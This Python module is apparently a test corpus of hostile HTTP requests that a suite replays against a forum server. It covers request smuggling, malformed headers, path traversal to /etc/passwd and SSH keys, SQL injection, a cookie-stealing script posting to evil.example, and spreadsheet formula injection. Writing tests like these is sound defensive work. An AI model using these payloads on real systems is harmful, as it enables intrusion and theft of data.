"""The hostile-request corpus: raw HTTP requests a stranger on the Wi-Fi or a prankster in the room
might send, by category. ``tests/web/test_hostile_corpus.py`` runs every one against the real server.

Each entry builds the exact bytes to send from a :class:`Target` (the served forum's code and
question ids). Unless ``stored_as`` is set the request must be refused: a 4xx, or the connection
closed without a response; nothing is stored. ``stored_as`` marks a hostile-looking *text* that is
a legitimate open-text answer: it is stored, literally (after the documented clean-up of control
and bidi characters), and must come back as that text.

``test_hostile.py`` (the server's own tests) already covers plain malformed JSON, wrong JSON types,
huge numbers, NaN, non-integer question ids, 20,000-character answers, deep array nesting inside
``text`` and /static/ traversal; nothing here repeats those.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Callable
from dataclasses import dataclass

MARK = "HOSTILE-ATTENDEE-TEXT"  # in every attendee text sent here: must never reach a log or an error


@dataclass(frozen=True)
class Target:
    code: str
    text_q: int  # open text, max 200 characters
    single_q: int  # single choice of 3
    multiple_q: int  # multiple choice of 4
    rating_q: int  # 1..5
    words_q: int  # short words, at most 2
    other_forum_q: int  # a question of another forum in the same database


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[Target], bytes]
    half_close: bool = False  # the request is incomplete on purpose: send EOF after it
    stored_as: str | None = None  # a legitimate answer: stored as exactly this text
    # aiohttp's own parser answers unparseable HTTP with a plain-text 400 that quotes the offending
    # line back to the sender (text/plain, nosniff; never logged, never seen by anyone else).
    quotes_itself: bool = False


def ids() -> dict:
    return {"submission_id": str(uuid.uuid4()), "client_id": str(uuid.uuid4())}


def request(method: str, path: str, headers: list[tuple[str, str]] | None = None, body: bytes = b"",
            *, length: bool = True) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: 127.0.0.1"]
    lines += [f"{name}: {value}" for name, value in headers or []]
    if length and body:
        lines.append(f"Content-Length: {len(body)}")
    lines.append("Connection: close")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def answers_path(t: Target) -> str:
    return f"/api/f/{t.code}/answers"


def post_json(t: Target, body: bytes, content_type: str = "application/json") -> bytes:
    return request("POST", answers_path(t), [("Content-Type", content_type)], body)


def answer(question: str, raw_tail: str) -> Callable[[Target], bytes]:
    """A well-formed answer envelope for ``question`` (a Target field) whose last member(s) are the
    given raw JSON text, so it can carry what json.dumps would never produce."""

    def build(t: Target) -> bytes:
        head = json.dumps({"question_id": getattr(t, question), **ids()})[:-1]
        return post_json(t, (head + ", " + raw_tail + "}").encode("utf-8", "surrogatepass"))

    return build


def text_answer(text: str, question: str = "text_q") -> Callable[[Target], bytes]:
    def build(t: Target) -> bytes:
        body = json.dumps({"question_id": getattr(t, question), **ids(), "text": text})
        return post_json(t, body.encode())

    return build


def text_with_bytes(seq: bytes) -> Callable[[Target], bytes]:
    """An open-text answer with ``seq`` spliced raw into its text."""

    def build(t: Target) -> bytes:
        body = json.dumps({"question_id": t.text_q, **ids(), "text": MARK + "@@"}).encode()
        return post_json(t, body.replace(b"@@", seq))

    return build


def raw(data: bytes) -> Callable[[Target], bytes]:
    return lambda t: data


def raw_post(tail: bytes) -> Callable[[Target], bytes]:
    """``POST <answers> HTTP/1.1`` and a Host header, then ``tail`` as given (headers and body)."""
    return lambda t: f"POST {answers_path(t)} HTTP/1.1\r\nHost: 127.0.0.1\r\n".encode() + tail


def get(path: Callable[[Target], str] | str) -> Callable[[Target], bytes]:
    return lambda t: request("GET", path(t) if callable(path) else path)


def a_body() -> bytes:
    return json.dumps({"question_id": 1, **ids(), "text": f"{MARK} in a broken request"}).encode()


# ---------------------------------------------------------------- malformed HTTP

MALFORMED_HTTP = [
    Hostile("bare LF line endings", raw(b"GET / HTTP/1.1\nHost: x\n\n"), quotes_itself=True),
    Hostile("lower-case method", raw(b"get / HTTP/1.1\r\nHost: x\r\n\r\n"), quotes_itself=True),
    Hostile("NUL in the method", raw(b"G\x00T / HTTP/1.1\r\nHost: x\r\n\r\n"), quotes_itself=True),
    Hostile("extra token after the version", raw(b"GET / HTTP/1.1 extra\r\nHost: x\r\n\r\n"), quotes_itself=True),
    Hostile("not HTTP in the version", raw(b"GET / HTTX/1.1\r\nHost: x\r\n\r\n"), quotes_itself=True),
    Hostile("HTTP/2 preface on an HTTP/1 port", raw(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), quotes_itself=True),
    Hostile("TLS handshake on a plain port",
            raw(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(32)) + b"\r\n\r\n"), quotes_itself=True),
    Hostile("a 9,000-byte method", raw(b"A" * 9000 + b" / HTTP/1.1\r\nHost: x\r\n\r\n"), quotes_itself=True),
    Hostile("obsolete header folding", raw(b"GET / HTTP/1.1\r\nHost: x\r\nX-A: 1\r\n b\r\n\r\n"), quotes_itself=True),
    Hostile("Content-Length folded onto two lines",
            raw_post(b"Content-Type: application/json\r\nContent-Length: 1\r\n 0\r\n\r\n{}"), quotes_itself=True),
    Hostile("header line without a colon", raw(b"GET / HTTP/1.1\r\nHost: x\r\nNoColonHere\r\n\r\n"), quotes_itself=True),
    Hostile("space before the colon", raw(b"GET / HTTP/1.1\r\nHost : x\r\n\r\n"), quotes_itself=True),
    Hostile("NUL in a header value", raw(b"GET / HTTP/1.1\r\nHost: x\r\nX-A: a\x00b\r\n\r\n"), quotes_itself=True),
    Hostile("lone CR in a header value", raw(b"GET / HTTP/1.1\r\nHost: x\r\nX-A: a\rb\r\n\r\n"), quotes_itself=True),
    Hostile("HTTP/1.1 without Host", raw(b"GET / HTTP/1.1\r\n\r\n"), quotes_itself=True),
    Hostile("Content-Length that is not a number",
            raw_post(b"Content-Type: application/json\r\nContent-Length: abc\r\n\r\n{}"), quotes_itself=True),
    Hostile("Content-Length with a plus sign",
            raw_post(b"Content-Type: application/json\r\nContent-Length: +2\r\n\r\n{}"), quotes_itself=True),
    Hostile("Content-Length in hex",
            raw_post(b"Content-Type: application/json\r\nContent-Length: 0x2\r\n\r\n{}"), quotes_itself=True),
    Hostile("Content-Length with a space inside",
            raw_post(b"Content-Type: application/json\r\nContent-Length: 1 0\r\n\r\n{}"), quotes_itself=True),
    Hostile("two different Content-Lengths",
            raw_post(b"Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{} "),
            quotes_itself=True),
    Hostile("request smuggling: Content-Length and chunked",
            lambda t: raw_post(b"Content-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked"
                               b"\r\n\r\n0\r\n\r\n" + request("GET", f"/api/f/{t.code}/results/{t.text_q}"))(t),
            quotes_itself=True),
    Hostile("request smuggling: chunked first, then Content-Length",
            raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n"
                     b"0\r\n\r\n"), quotes_itself=True),
    Hostile("Transfer-Encoding gzip only",
            lambda t: raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: gzip\r\n\r\n" + a_body())(t),
            quotes_itself=True),
    Hostile("Transfer-Encoding chunked, gzip",
            raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n"),
            quotes_itself=True),
    Hostile("Transfer-Encoding given twice",
            raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked"
                     b"\r\n\r\n0\r\n\r\n"), quotes_itself=True),
    Hostile("Transfer-Encoding xchunked",
            raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"),
            quotes_itself=True),
    Hostile("chunk size that is not hex",
            raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n"),
            quotes_itself=True),
    Hostile("negative chunk size",
            raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n{}\r\n0\r\n\r\n"),
            quotes_itself=True),
    Hostile("chunk size that overflows 64 bits",
            raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                     b"ffffffffffffffffffff\r\n{}\r\n0\r\n\r\n"), quotes_itself=True),
    Hostile("chunk longer than its size, no CRLF after it",
            lambda t: raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n"
                               + a_body() + b"0\r\n\r\n")(t), quotes_itself=True),
    Hostile("NUL in a chunk extension",
            raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2;a=\x00\r\n{}\r\n0\r\n\r\n"),
            quotes_itself=True),
    Hostile("chunked body cut off, then EOF",
            lambda t: raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                               + b"%x\r\n" % len(a_body()) + a_body()[:20])(t), half_close=True),
    Hostile("chunked body without its last chunk, then EOF",
            lambda t: raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                               + b"%x\r\n" % len(a_body()) + a_body() + b"\r\n")(t), half_close=True),
    Hostile("body shorter than its Content-Length, then EOF",
            lambda t: raw_post(b"Content-Type: application/json\r\nContent-Length: 400\r\n\r\n" + a_body())(t),
            half_close=True),
    Hostile("chunked on HTTP/1.0",
            lambda t: (f"POST {answers_path(t)} HTTP/1.0\r\nHost: x\r\nContent-Type: application/json\r\n"
                       f"Transfer-Encoding: chunked\r\n\r\n2\r\n{{}}\r\n0\r\n\r\n").encode()),
    Hostile("CONNECT to another host", raw(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")),
    Hostile("OPTIONS *", raw(b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n")),
    Hostile("TRACE echoing headers back", raw(b"TRACE / HTTP/1.1\r\nHost: x\r\nX-Secret: s\r\n\r\n")),
]

# ---------------------------------------------------------------- oversized

OVERSIZED = [
    Hostile("200 headers", raw(b"GET / HTTP/1.1\r\nHost: x\r\n"
                               + b"".join(b"X-%d: %s\r\n" % (i, b"v" * 100) for i in range(200)) + b"\r\n")),
    Hostile("a 10,000-byte header name", raw(b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X" * 10_000 + b": 1\r\n\r\n"),
            quotes_itself=True),
    Hostile("a 9,000-byte cookie", raw(b"GET / HTTP/1.1\r\nHost: x\r\nCookie: c=" + b"v" * 9000 + b"\r\n\r\n"),
            quotes_itself=True),
    Hostile("a 9,000-byte query string", raw(b"GET /?q=" + b"a" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n"),
            quotes_itself=True),
    Hostile("a body one byte over 8 KiB",
            lambda t: post_json(t, (json.dumps({"question_id": t.text_q, **ids(), "text": MARK})[:-1]
                                    + " " * 8200 + "}").encode()[:8193])),
    Hostile("a chunked body over 8 KiB",
            raw_post(b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
                     + b"".join(b"400\r\n" + b" " * 1024 + b"\r\n" for _ in range(9)) + b"0\r\n\r\n")),
    Hostile("Content-Length of 1 MB with a few bytes sent",
            raw_post(b"Content-Type: application/json\r\nContent-Length: 1048576\r\nConnection: close\r\n\r\n{\"a\":")),
    Hostile("8,000 characters for a 200-character question", text_answer(MARK + "x" * 8000)),
    Hostile("201 characters for a 200-character question", text_answer(MARK + "y" * (201 - len(MARK)))),
    Hostile("65 choices picked", answer("multiple_q", '"choices": [' + ", ".join(["0"] * 65) + "]")),
    Hostile("3,000 choices picked", answer("multiple_q", '"choices": [' + ", ".join(["1"] * 3000) + "]")),
    Hostile("three words for a two-word question", text_answer(f"{MARK} two three", "words_q")),
]

# ---------------------------------------------------------------- wrong content types

WRONG_CONTENT_TYPES = [
    Hostile("text/plain (a cross-site form can send it)", lambda t: post_json(t, json.dumps(
        {"question_id": t.text_q, **ids(), "text": MARK}).encode(), "text/plain")),
    Hostile("urlencoded form", lambda t: post_json(
        t, f"question_id={t.text_q}&submission_id={uuid.uuid4()}&text={MARK}".encode(),
        "application/x-www-form-urlencoded")),
    Hostile("multipart form", lambda t: post_json(
        t, b"--b\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\n" + MARK.encode() + b"\r\n--b--\r\n",
        "multipart/form-data; boundary=b")),
    Hostile("text/html", lambda t: post_json(t, json.dumps({"question_id": t.text_q, **ids(), "text": MARK}).encode(),
                                             "text/html")),
    Hostile("application/xml", lambda t: post_json(t, f"<answer><text>{MARK}</text></answer>".encode(),
                                                   "application/xml")),
    Hostile("no Content-Type at all", lambda t: request(
        "POST", answers_path(t), [], json.dumps({"question_id": t.text_q, **ids(), "text": MARK}).encode())),
    Hostile("application/jsonx", lambda t: post_json(
        t, json.dumps({"question_id": t.text_q, **ids(), "text": MARK}).encode(), "application/jsonx")),
    Hostile("JSON type, form body", lambda t: post_json(t, f"question_id={t.text_q}&text={MARK}".encode())),
    Hostile("JSON type, UTF-16 body", lambda t: post_json(
        t, json.dumps({"question_id": t.text_q, **ids(), "text": MARK}).encode("utf-16"),
        "application/json; charset=utf-16")),
    Hostile("JSON type, Latin-1 body", lambda t: post_json(
        t, json.dumps({"question_id": t.text_q, **ids(), "text": MARK + " caf\xe9"}, ensure_ascii=False)
        .encode("latin-1"), "application/json; charset=latin-1")),
]

# ---------------------------------------------------------------- invalid UTF-8

INVALID_UTF8 = [
    Hostile(f"invalid UTF-8: {label}", text_with_bytes(seq))
    for label, seq in [
        ("overlong slash", b"\xc0\xaf"), ("overlong NUL", b"\xc0\x80"), ("UTF-16 surrogate half", b"\xed\xa0\x80"),
        ("truncated 4-byte sequence", b"\xf0\x9f\x98"), ("lone continuation byte", b"\x80"),
        ("5-byte sequence", b"\xf8\x88\x80\x80\x80"), ("code point above U+10FFFF", b"\xf4\x90\x80\x80"),
        ("0xFF byte", b"\xff"),
    ]
] + [
    Hostile("invalid UTF-8 in a key", lambda t: post_json(
        t, b'{"question_id": %d, "submission_id": "%s", "client_id": "%s", "te\xffxt": "x"}'
        % (t.text_q, str(uuid.uuid4()).encode(), str(uuid.uuid4()).encode()))),
    Hostile("invalid UTF-8 in the path", raw(b"GET /j/\xc0\xaf\xed\xa0\x80 HTTP/1.1\r\nHost: x\r\n\r\n"), quotes_itself=True),
]

# ---------------------------------------------------------------- nesting and strange JSON

NESTED_JSON = [
    Hostile("objects nested 40 deep at the top", lambda t: post_json(t, b'{"a":' * 40 + b"1" + b"}" * 40)),
    Hostile("choices nested 30 deep", answer("multiple_q", '"choices": ' + "[" * 30 + "0" + "]" * 30)),
    Hostile("rating nested 20 deep in objects", answer("rating_q", '"rating": ' + '{"r":' * 20 + "3" + "}" * 20)),
    Hostile("mixed arrays and objects 17 deep", answer("text_q", '"text": ' + '[{"a":' * 9 + "1" + "}]" * 9)),
    Hostile("escaped quotes to fool a bracket counter",
            answer("text_q", '"text": "\\"[[[[", "x": ' + "[" * 40 + "]" * 40)),
    Hostile("a JSON object as a question id", answer("text_q", '"question_id": {"$gt": 0}, "text": "x"')),
    Hostile("a duplicate key pointing at another forum's question",
            lambda t: answer("text_q", f'"text": "{MARK}", "question_id": {t.other_forum_q}')(t)),
    Hostile("a submission id with SQL in it", lambda t: post_json(t, json.dumps(
        {"question_id": t.text_q, "submission_id": "x'); DROP TABLE answers; --", "client_id": str(uuid.uuid4()),
         "text": MARK}).encode())),
    Hostile("a client id of 7,000 characters", lambda t: post_json(t, json.dumps(
        {"question_id": t.text_q, "submission_id": str(uuid.uuid4()), "client_id": "c" * 7000,
         "text": MARK}).encode())),
    Hostile("a submission id with a NUL", lambda t: post_json(t, json.dumps(
        {"question_id": t.text_q, "submission_id": "abcdefgh\u0000ijk", "client_id": str(uuid.uuid4()),
         "text": MARK}).encode())),
]

# ---------------------------------------------------------------- numbers out of range

OUT_OF_RANGE = [
    Hostile(f"rating {value}", answer("rating_q", f'"rating": {value}'))
    for value in ("0", "6", "-1", "3.0", "2.5", "1e0", "-0", str(2**63), str(-(2**63) - 1), "true", '"3"', "[3]")
] + [
    Hostile(f"choices {value} on a single choice of 3", answer("single_q", f'"choices": {value}'))
    for value in ("[3]", "[-1]", "[0, 1]", "[]", "[1.0]", "[true]", "[null]", '["0"]', "0", str([2**31]))
] + [
    Hostile("the same choice twice", answer("multiple_q", '"choices": [1, 1]')),
    Hostile("question id 0", lambda t: post_json(t, json.dumps({"question_id": 0, **ids(), "text": MARK}).encode())),
    Hostile("question id of another forum", lambda t: post_json(
        t, json.dumps({"question_id": t.other_forum_q, **ids(), "text": MARK}).encode())),
    Hostile("question id that does not exist", lambda t: post_json(
        t, json.dumps({"question_id": 2**62, **ids(), "text": MARK}).encode())),
    Hostile("a rating for an open-text question", answer("text_q", '"rating": 3')),
    Hostile("text for a rating question", answer("rating_q", f'"text": "{MARK}"')),
]

# ---------------------------------------------------------------- path traversal and hostile paths

PATH_TRAVERSAL = [
    Hostile(f"path {path}", get(path)) for path in [
        "/j/../static/../secret.txt", "/j/..%2f..%2fsecret.txt", "/api/f/../../secret.txt", "/api/f/%2e%2e/state",
        "/static/%252e%252e/secret.txt", "/static/..%c0%af..%c0%afsecret.txt", "/static/..\\..\\secret.txt",
        "/static/%5c..%5csecret.txt", "/static/app.js%00", "/static/%00", "/static/i18n/%2e%2e/%2e%2e/secret.txt",
        "/static/C:\\Windows\\win.ini", "/static/file:///etc/passwd", "/static//proc/self/environ",
        "/static/~/.ssh/id_rsa", "/static/%2e%2e%2f%2e%2e%2fsecret.txt", "/%2e%2e/secret.txt",
        "/static/..;/secret.txt", "/static/.hidden%00.js", "/static/%2Ehidden", "/static/i18n/..%5c..%5csecret.txt",
        "/static/%u002e%u002e/secret.txt", "/secret.txt", "/../../../../etc/passwd",
    ]
] + [
    Hostile("raw NUL in the path", raw(b"GET /static/app.js\x00.png HTTP/1.1\r\nHost: x\r\n\r\n"), quotes_itself=True),
    Hostile("raw backslashes in the path", raw(b"GET /static\\..\\..\\secret.txt HTTP/1.1\r\nHost: x\r\n\r\n")),
    Hostile("absolute URL for another host", raw(b"GET http://evil.example/static/../../secret.txt HTTP/1.1\r\n"
                                                 b"Host: evil.example\r\n\r\n")),
]

# ---------------------------------------------------------------- hostile codes and ids in URLs

HOSTILE_URLS = [
    Hostile("HTML as a join code", get("/j/%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
    Hostile("SQL as a join code", get("/api/f/'%20OR%201=1--/state")),
    Hostile("a join code of 5,000 characters", get("/api/f/" + "A" * 5000 + "/state")),
    Hostile("SQL as a question id", get(lambda t: f"/api/f/{t.code}/results/1%20OR%201=1")),
    Hostile("negative question id", get(lambda t: f"/api/f/{t.code}/results/-1")),
    Hostile("hex question id", get(lambda t: f"/api/f/{t.code}/results/0x1")),
    Hostile("full-width digit question id", get(lambda t: f"/api/f/{t.code}/results/%EF%BC%91")),
    Hostile("30-digit question id", get(lambda t: f"/api/f/{t.code}/results/" + "9" * 30)),
    Hostile("another forum's question's results", get(lambda t: f"/api/f/{t.code}/results/{t.other_forum_q}")),
    Hostile("results not revealed yet", get(lambda t: f"/api/f/{t.code}/results/{t.text_q}")),
]

REFUSED = {
    "malformed-http": MALFORMED_HTTP,
    "oversized": OVERSIZED,
    "content-types": WRONG_CONTENT_TYPES,
    "invalid-utf8": INVALID_UTF8,
    "nested-json": NESTED_JSON,
    "out-of-range": OUT_OF_RANGE,
    "path-traversal": PATH_TRAVERSAL,
    "hostile-urls": HOSTILE_URLS,
}

# ---------------------------------------------------------------- hostile-looking text that is a real answer

_TEXTS = [
    # HTML and script
    '<script>document.location="http://evil.example/?c="+document.cookie</script>',
    "<iframe src=javascript:alert(1)></iframe>",
    '"><svg/onload=alert(1)>',
    "<style>body{display:none}</style>",
    "&lt;b&gt; &amp; &#60;script&#62; &#x3C;",
    "<!-- comment --> {{7*7}} ${7*7} <%= 7*7 %>",
    # SQL
    "'; DROP TABLE answers; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM answers WHERE ('1'='1",
    '" OR ""="',
    "' UNION SELECT device_hash FROM device_votes --",
    "\\'; SELECT sqlite_version(); --",
    # reportlab paragraph markup
    "<para><font size=100 color=red>BIG</font></para>",
    '<img src="/etc/passwd" width="1000" height="1000"/>',
    '<a href="file:///etc/passwd">open me</a>',
    "<b>bold that never closes",
    "<br/><br/><br/><onDraw name=x/><seq id=x/>",
    "&nbsp; &amp;amp; &#0; &unknown;",
    # CSV and spreadsheet formulas
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1;=2+2,=3+3",
    # paths and everything else
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\config\\SAM",
    "%00%2e%2e%2f %s%s%s %n {0} {__class__}",
]

STORED_TEXTS = [Hostile(f"text: {text[:40]}", text_answer(f"{text} {MARK}"), stored_as=f"{text} {MARK}")
                for text in _TEXTS] + [
    # Control and bidirectional-override characters are stripped (SECURITY.md); the rest is kept.
    Hostile("text with a right-to-left override", text_answer(f"\u202egnp.exe {MARK}"), stored_as=f"gnp.exe {MARK}"),
    Hostile("text with a tab before a formula", text_answer(f"\t=1+1 {MARK}"), stored_as=f"=1+1 {MARK}"),
    Hostile("text with escaped NUL and bell", text_answer(f"a\u0000b\u0007c {MARK}"), stored_as=f"abc {MARK}"),
    Hostile("SQL in a two-word answer", text_answer("';DROP TABLE", "words_q"), stored_as="';DROP TABLE"),
]


def count() -> int:
    return sum(len(v) for v in REFUSED.values()) + len(STORED_TEXTS)
